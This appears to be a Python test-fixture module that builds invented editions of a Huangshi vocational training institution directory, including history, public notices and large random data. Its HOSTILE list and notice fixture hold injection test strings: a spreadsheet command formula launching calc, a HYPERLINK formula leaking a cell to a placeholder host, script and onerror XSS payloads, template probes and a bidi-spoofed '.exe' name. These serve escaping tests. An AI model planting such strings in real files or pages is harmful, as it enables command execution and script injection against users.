"""Made editions for the tests of the directory and its files: small, hostile and large ones."""

from collections.abc import Iterable
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import numpy as np
import pandas as pd

from schemas import office
from schemas.directory import CHANGE_COLUMNS, DIRECTORY_COLUMNS
from schemas.directory_changes import changes
from schemas.law.cycle import cycle_id
from schemas.policy import for_cycle
from schemas.reference_data import reference
from tasks.gateways.shelf import EarlierEdition, EditionContent
from tasks.gateways.shelf.content import grown, unborn
from tasks.gateways.shelf.page import pages
from tasks.gateways.shelf.public_notices import NOTICE_COLUMNS, NoticeContent

AS_OF = date(2026, 9, 10)
POLICY = for_cycle(cycle_id("2026-09"))
OFFICE = office.read(Path("no-home"))

#: Types a text key by key; for each key, the emptied field first, the milliseconds until rows are laid out.
TYPE = """text => {
  const box = document.getElementById('q');
  const times = [];
  for (let length = 0; length <= text.length; length += 1) {
    box.value = text.slice(0, length);
    const pressed = performance.now();
    box.dispatchEvent(new Event('input', { bubbles: true }));
    document.body.getBoundingClientRect();
    times.push(performance.now() - pressed);
  }
  return times;
}"""

#: Names that spreadsheets, browsers, templates or terminals might take for something else than text.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"x")',
    "+1+1",
    "-2-3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "＝1＋1",
    "  =1+1",
    "\r\n=1+1",
    "<script>window.hacked = 1</script>",
    '</script><img src=x onerror="window.hacked=1">',
    "<!--<script>",
    "{{ 7 * 7 }}{% raw %}",
    "{_{ 7 * 7 }_}",
    "abc\u202egnp.exe\u202c",
    "\u200f\u2067שלום\u2069",
    "👩‍🔧🇨🇳培训学校",
    "长" * 300,
    "引号\"'“”‘’`,;\\",
    "第一行\n第二行\r第三行",
    "\x00\x07\x1b[31m红",
    "\ufeff\ufffe\u2028\u2029末",
    "&lt;b&gt;&amp;&#x41;",
    "https://example.invalid/",
    "' 撇号",
    "NULL",
    "12345678901234567890",
    "2026-09-10",
]


def directory(rows: Iterable[tuple[str, ...]]) -> pd.DataFrame:
    """A directory of the given rows, cells in the order of DIRECTORY_COLUMNS; blank ones are missing."""
    frame = pd.DataFrame(list(rows), columns=DIRECTORY_COLUMNS, dtype="str")
    return frame.mask(frame == "")


def row(
    name: str = "黄石市磁湖职业培训学校",
    uscc: str = "91420200MA48000001",
    occupation: str = "6-18-01-01",
    **cells: str,
) -> tuple[str, ...]:
    """One row of the directory; everything not said is ordinary."""
    ordinary = {
        "institution_name": name,
        "institution_type": "social_organisation",
        "uscc": uscc,
        "institution_code": "",
        "region_code": "420202",
        "registered_address": "湖北省黄石市磁湖路1号",
        "occupation_code": occupation,
        "occupation_name": reference().occupation_names().get(occupation, "车工"),
        "levels": "5,4,3",
        "audiences": "public",
        "filed_on": "2026-09-10",
        "valid_until": "2029-09-09",
    }
    return tuple({**ordinary, **cells}.get(column, "") for column in DIRECTORY_COLUMNS)


def ordinary() -> pd.DataFrame:
    """Four institutions of the three types, seven rows, out of order."""
    return directory(
        [
            row(
                "大冶有色机械制造有限公司",
                "91420281MA48000003",
                "6-20-01-01",
                institution_type="enterprise",
                region_code="420281",
            ),
            row(
                "黄石技师学院", "12420200MA48000002", "6-18-01-02", institution_type="technical_school", levels="4,3,2"
            ),
            row(
                "黄石技师学院",
                "12420200MA48000002",
                "6-18-01-01",
                institution_type="technical_school",
                levels="5,4,3,2,1",
            ),
            row("黄石技师学院", "12420200MA48000002", "4-04-05-01", institution_type="technical_school", levels="5"),
            row(institution_code="Y00042000001", filed_on="2024-09-10", valid_until="2027-09-09"),
            row(
                occupation="4-10-01-02",
                institution_code="Y00042000001",
                filed_on="2024-09-10",
                valid_until="2027-09-09",
            ),
            row(
                "阳新县新港物流职业培训学校",
                "52420222MA48000004",
                "4-02-06-01",
                region_code="HS-XG",
                valid_until="2026-10-31",
                filed_on="2023-11-01",
            ),
        ]
    )


def hostile() -> pd.DataFrame:
    """One institution for each hostile name; the name is also that of its occupation."""
    return directory(
        row(name, f"91420200MA48{place:06d}", occupation_name=name, region_code="<b>", institution_code="=1+1")
        for place, name in enumerate(HOSTILE)
    )


def edition(
    rows: pd.DataFrame,
    *,
    before: pd.DataFrame | None = None,
    name: str = "2026-09.1",
    previous: str | None = None,
    earlier: Iterable[EarlierEdition] = (),
    writer: office.Office = OFFICE,
) -> EditionContent:
    """An edition of these rows; its changes are against `before`, by default an empty directory."""
    changed = changes(rows.iloc[:0] if before is None else before, rows, AS_OF)
    return EditionContent(
        name=name,
        cycle="2026-09",
        as_of=AS_OF,
        policy=POLICY,
        office=writer,
        rows=rows,
        changes=changed[CHANGE_COLUMNS],
        previous_manifest_sha256=previous,
        earlier=list(earlier),
    )


#: Institutions that are no more in the directory, and what became of them: kind, reason, document number.
REVOKED = "91420204MA48000007"
GONE = {
    REVOKED: ("下陆区旧名职业培训学校", "revoked", "弄虚作假", "黄人社撤〔2026〕3号"),
    "91420203MA48000008": ("西塞山区焊接职业培训学校", "expired", "", ""),
    "91420203MA48000009": ("西塞山区暂停职业培训学校", "suspended", "整改未完成", "黄人社停〔2026〕1号"),
}


def with_a_past() -> EditionContent:
    """Seven rows after two earlier editions: a level added, a name changed, three institutions gone, one only for staff."""
    now = ordinary()
    now.loc[now["uscc"] == "91420281MA48000003", "audiences"] = "staff"
    trade = now["uscc"] == "52420222MA48000004"
    now.loc[trade, ["occupation_code", "occupation_name", "work_type"]] = ["4-02-06-01", "仓储管理员", "叉车"]
    gone = directory(
        row(
            name,
            uscc,
            "6-18-02-04",
            institution_code=f"Y00042{place:07d}",
            filed_on="2023-09-11",
            valid_until="2026-09-09",
        )
        for place, (uscc, (name, *_)) in enumerate(GONE.items(), start=7)
    )
    gone = gone.assign(valid_until=gone["valid_until"].mask(gone["uscc"] != "91420203MA48000008", "2028-09-10"))
    middle = pd.concat([now.assign(levels=now["levels"].replace("4,3,2", "4,3")), gone], ignore_index=True)
    first = pd.concat(
        [now[now["uscc"] == "91420200MA48000001"].assign(institution_name="黄石市旧名职业培训学校"), gone]
    )
    causes = pd.DataFrame(
        [
            {
                "uscc": uscc,
                "occupation_code": "6-18-02-04",
                "work_type": "",
                "became": kind,
                "reason": why,
                "document_no": number,
            }
            for uscc, (_, kind, why, number) in GONE.items()
            if kind != "expired"
        ]
    )
    days = {"2025-09.1": date(2025, 9, 12), "2026-04.1": date(2026, 4, 20)}
    changes_of = {
        "2025-09.1": changes(first.iloc[:0], first, days["2025-09.1"]),
        "2026-04.1": changes(first, middle, days["2026-04.1"]),
    }
    past = grown(unborn(), first, changes_of["2025-09.1"], "2025-09.1", days["2025-09.1"])
    past = grown(past, middle, changes_of["2026-04.1"], "2026-04.1", days["2026-04.1"])
    content = edition(
        now,
        before=middle,
        previous="ab" * 32,
        earlier=[(name, days[name], changes_of[name]) for name in reversed(changes_of)],
    )
    changed = changes(middle, now, AS_OF, causes)
    office_online = OFFICE.model_copy(update={"website": "https://www.example.gov.cn/directory/latest/"})
    return replace(content, changes=changed, office=office_online, chain=list(days.items()), past=past)


#: An institution that was suspended and is back, and one that gave up what it had.
REINSTATED, WITHDRAWN = "91420204MA48000021", "91420204MA48000022"


def with_returns() -> EditionContent:
    """Two rows after two earlier editions: of three, one was suspended and is back, one was withdrawn, one stayed."""
    first = directory(
        [
            row("下陆区复课职业培训学校", REINSTATED, filed_on="2025-09-12", valid_until="2028-09-11"),
            row("下陆区注销职业培训学校", WITHDRAWN, filed_on="2025-09-12", valid_until="2028-09-11"),
            row(filed_on="2025-09-12", valid_until="2028-09-11"),
        ]
    )
    middle = first[~first["uscc"].isin([REINSTATED, WITHDRAWN])]
    now = first[first["uscc"] != WITHDRAWN]
    columns = ["uscc", "occupation_code", "work_type", "became", "reason", "document_no"]
    went = [
        (REINSTATED, "6-18-01-01", "", "suspended", "场地不符", "黄人社停〔2026〕5号"),
        (WITHDRAWN, "6-18-01-01", "", "withdrawn", "申请注销", "黄人社注〔2026〕2号"),
    ]
    back = [(REINSTATED, "6-18-01-01", "", "reinstated", "整改合格", "黄人社复〔2026〕6号")]
    days = {"2025-09.1": date(2025, 9, 12), "2026-04.1": date(2026, 4, 20)}
    changes_of = {
        "2025-09.1": changes(first.iloc[:0], first, days["2025-09.1"]),
        "2026-04.1": changes(first, middle, days["2026-04.1"], pd.DataFrame(went, columns=columns)),
    }
    past = grown(unborn(), first, changes_of["2025-09.1"], "2025-09.1", days["2025-09.1"])
    past = grown(past, middle, changes_of["2026-04.1"], "2026-04.1", days["2026-04.1"])
    earlier = [(name, days[name], changes_of[name]) for name in reversed(changes_of)]
    content = edition(now, before=middle, previous="ab" * 32, earlier=earlier)
    changed = changes(middle, now, AS_OF, pd.DataFrame(back, columns=columns))
    return replace(content, changes=changed, chain=list(days.items()), past=past)


def notice(name: str = "2026-09.1", began: date = date(2026, 9, 28)) -> NoticeContent:
    """A public notice of three occupations of two institutions, one of which has a hostile name."""
    rows = [
        ("A1", "黄石磁湖面点有限公司", "91420200MA40000124", "4-03-02-02", "中式面点师", "4,3"),
        ("A1", "黄石磁湖面点有限公司", "91420200MA40000124", "4-03-02-01", "中式烹调师", "4"),
        ("A2", "=cmd|' /C calc'!A0<script>", "91420202MA40079352", "6-31-01-03", "电工", "5,4,3,2,1"),
    ]
    named = pd.DataFrame(
        rows,
        columns=["application_no", "institution_name", "uscc", "occupation_code", "occupation_name", "levels"],
    ).assign(institution_type="enterprise", region_code="420202", kind="首次备案", work_type="")
    return NoticeContent(
        name=name,
        cycle="2026-09",
        published_on=began,
        ends_on=began + timedelta(days=12),
        policy=POLICY,
        office=OFFICE,
        rows=named[NOTICE_COLUMNS],
    )


def page(content: EditionContent) -> bytes:
    """The page of an edition, without those of its districts."""
    return pages(content)["index.html"]


def large(count: int, seed: int = 1) -> pd.DataFrame:
    """A directory of about `count` rows with four occupations an institution, real occupations and regions."""
    draw = np.random.default_rng(seed)
    codes = [code for code in reference().occupations["code"] if code[0] in "3456"]
    many = max(1, count // 4)
    institution = np.repeat(np.arange(many), 4)
    occupation = draw.integers(0, len(codes), institution.size)
    places, trades = (
        ["华新", "新冶", "东贝", "磁湖", "团城山", "铜都"],
        ["机械制造有限公司", "技工学校", "职业培训学校"],
    )
    names = np.array([f"黄石市{places[draw.integers(6)]}{place}号{trades[draw.integers(3)]}" for place in range(many)])
    filed = pd.Timestamp("2023-09-11") + pd.to_timedelta(draw.integers(0, 1095, many), unit="D")
    until = filed + pd.DateOffset(years=3) - pd.DateOffset(days=1)
    titles = reference().occupation_names()
    frame = pd.DataFrame(
        {
            "institution_name": names[institution],
            "institution_type": np.array(list(POLICY.institution))[draw.integers(0, 3, many)][institution],
            "uscc": np.array([f"91420200{place:010d}" for place in range(many)])[institution],
            "institution_code": np.array([f"Y0004{place:08d}" for place in range(many)])[institution],
            "region_code": np.array(POLICY.regions.codes)[draw.integers(0, 8, many)][institution],
            "occupation_code": np.array(codes)[occupation],
            "occupation_name": np.array([titles[code] for code in codes])[occupation],
            "levels": np.array(["5,4,3", "5,4", "5,4,3,2,1", "3,2,1", "5"])[draw.integers(0, 5, institution.size)],
            "filed_on": np.asarray(filed.strftime("%Y-%m-%d"))[institution],
            "valid_until": np.asarray(until.strftime("%Y-%m-%d"))[institution],
        }
    )
    frame = frame.reindex(columns=DIRECTORY_COLUMNS, fill_value="")
    return frame.astype("str").drop_duplicates(["uscc", "occupation_code"], ignore_index=True)
